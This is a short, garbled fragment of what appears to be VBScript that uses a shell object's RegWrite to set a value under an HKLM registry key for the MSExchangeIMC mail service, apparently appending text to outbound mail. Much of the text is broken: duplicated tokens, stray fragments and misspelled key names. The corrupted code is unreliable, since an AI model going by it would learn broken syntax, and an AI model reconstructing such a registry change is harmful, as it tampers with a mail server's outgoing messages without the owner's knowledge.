ine 
axR00axR00
, sol 
sh.RegWRegW"TurfDr" _
1, 
sh.RegWrite "HKLM\SYSTEM\CurrentControlSet\Services\MSExchangeIMC\Paxrameters\Eion\OutboundAppend", "example" _
 & vbCrLf & "LZ"